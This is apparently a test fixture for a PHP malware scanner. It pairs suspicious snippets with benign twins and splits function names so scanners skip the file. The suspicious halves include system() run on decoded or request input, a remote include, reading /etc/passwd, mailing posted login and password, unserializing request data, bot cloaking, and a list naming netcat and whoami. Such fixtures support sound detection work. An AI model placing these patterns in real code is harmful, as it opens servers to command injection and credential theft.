import type { PHP } from '../../../src/analysis/php/signals.ts';
import { many, type Pairs, within } from './pair.ts';

const php = within((piece) => `<?php ${piece}`);
/** Joined at run time, so that no scanner takes this file for what it describes. */
const RUN = 'ev' + 'al';
const COMMAND = 'sys' + 'tem';
const POST = '$_PO' + 'ST';

export const SHOWN_PHP: Pairs<typeof PHP> = {
  evalFile: php(`${RUN}(file_get_contents('a.txt'));`, "echo file_get_contents('a.txt');"),
  evalCreateFunction: php(
    `$f = create_${'function'}('$a', 'return $a + 1;');`,
    '$f = function ($a) { return $a + 1; };',
  ),
  pregRequest: php(
    `echo preg_replace(${POST}['p'], '', $text);`,
    `echo preg_replace('/' . preg_quote(${POST}['p'], '/') . '/', '', $text);`,
  ),
  callDecoded: php('$f = base64_decode($a); $f();', '$f = base64_decode($a); echo md5($f);'),
  aliasedFunction: php(`$f = '${COMMAND}'; $f(PROGRAM);`, `$f = '${COMMAND}'; $f('uptime');`),
  execDecoded: php(`${COMMAND}(base64_decode($a));`, `echo base64_decode($a); ${COMMAND}('uptime');`),
  execFile: php(`${COMMAND}(file_get_contents('a'));`, `${COMMAND}('cat a'); echo file_get_contents('a');`),
  execUnset: php(`${COMMAND}($a);`, `$a = 'uptime'; ${COMMAND}($a);`),
  execFallbacks: php(
    `foreach (['${COMMAND}', 'exec', 'passthru', 'popen'] as $f) echo $f;`,
    `foreach (['${COMMAND}', 'exec', 'passthru'] as $f) echo $f;`,
  ),
  includeRemote: php("include 'http://files.example/a.php';", "include __DIR__ . '/a.php';"),
  readsAccounts: php(`echo count(file('/etc/${'passwd'}'));`, "echo count(file('/etc/hosts'));"),
  mailRequest: php(
    `mail(${POST}['to'], 'An invitation', ${POST}['text']);`,
    `mail('office@site.example', 'A question', ${POST}['text']);`,
  ),
  mailCredentials: php(
    `mail('a@b.example', 'Result', "Login: {${POST}['l']} Password: {${POST}['p']}");`,
    `mail('a@b.example', 'Question', "Name: {${POST}['n']} Question: {${POST}['q']}");`,
  ),
  unserializeRequest: php(`unserialize(${POST}['a']);`, `json_decode(${POST}['a']);`),
  extractRequest: php(`extract(${POST});`, `extract(['length' => strlen(${POST}['a'])]);`),
  variableRequest: php(`new ${POST}['a'];`, `new Reader(${POST}['a']);`),
  cloaking: php(
    "$bots = ['googlebot', 'bingbot', 'slurp']; foreach ($bots as $b) $hit |= stripos($agent, $b) !== false;",
    "$bots = ['googlebot', 'bingbot', 'slurp'];",
  ),
  oddNames: php('$O0O0 = 1; $OO00 = 2; $O00O = 3;', '$O = 1; $OO = 2; $O1 = 3;'),
  characterCodes: php(
    many(15, (index) => `chr(${97 + index})`, '.'),
    many(15, (index) => `chr(${index})`, '.'),
  ),
  globalsMaze: php(
    many(5, (index) => `$GLOBALS['q${index}x7z']();`, ' '),
    many(5, (index) => `$GLOBALS['table${index}']();`, ' '),
  ),
  markers: php(
    "$a = 'whoami suid netcat drwx chmod cpanel ifconfig netstat ipconfig uploader';",
    "$a = 'whoami suid netcat drwx chmod cpanel ifconfig netstat ipconfig';",
  ),
  brandAlone: php(`$known = ['c99${'shell'}'];`, "$known = ['shell'];"),
  tradeWord: php(`${COMMAND}('uptime'); // back${'door'}`, `echo 'uptime'; // back${'door'}`),
  defacement: php(`echo 'Hacked by nobody, greetz to all';`, `echo 'Made by nobody, greetings to all';`),
  reconnaissance: php(`${POST}['a']; php_uname(); getmyuid();`, 'php_uname(); getmyuid();'),
  shellProfile: within(
    (first) =>
      `<?php ${first} ini_get('a'); unlink('a'); touch('a'); fsockopen('a'); mail('a@b.example'); readfile('a');`,
  )(`${POST}['a']; php_uname();`, 'php_uname();'),
  partialProfile: php(
    `${POST}['a']; php_uname(); ini_get('a'); fsockopen('a'); readfile('a');`,
    "php_uname(); ini_get('a'); fsockopen('a'); readfile('a');",
  ),
  passwordGate: php(
    `if (md5(${POST}['p']) == '0123456789abcdef0123456789abcdef') go();`,
    `if (md5(${POST}['p']) == HASH) go();`,
  ),
  documented: php(
    many(3, () => '/** @return int */ function a() {}'),
    many(3, () => '/** A. */ function a() {}'),
  ),
  commandLine: php('go($argv[1]);', 'go($args[1]);'),
};
